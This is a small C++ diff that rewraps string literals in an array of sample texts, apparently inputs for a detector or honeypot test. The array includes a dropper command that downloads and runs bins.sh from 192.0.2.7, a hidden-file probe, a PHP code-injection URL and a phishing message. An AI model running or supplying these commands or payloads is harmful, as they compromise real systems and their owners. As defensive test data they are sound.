@@ -16,10 +16,12 @@ constexpr std::size_t most_rows = 1000;
 constexpr auto usual_texts = std::to_array<std::string_view>({
     "uname -a",
     "cat /proc/cpuinfo | grep name | wc -l",
-    "cd /tmp || cd /var/run || cd /mnt; wget http://192.0.2.7/bins.sh; chmod 777 bins.sh; sh bins.sh",
+    "cd /tmp || cd /var/run || cd /mnt; wget http://192.0.2.7/bins.sh; chmod 777 bins.sh; sh "
+    "bins.sh",
     "echo -e \"\\x47\\x72\\x6f\\x70/tmp\" > /tmp/.nippon; cat /tmp/.nippon; rm -f /tmp/.nippon",
     "/index.php?s=/module/action/param1/${@print(md5(1234))}",
-    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
+    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 "
+    "Safari/537.36",
     "Your parcel could not be delivered: confirm your address within 24 hours",
     "root",
 });
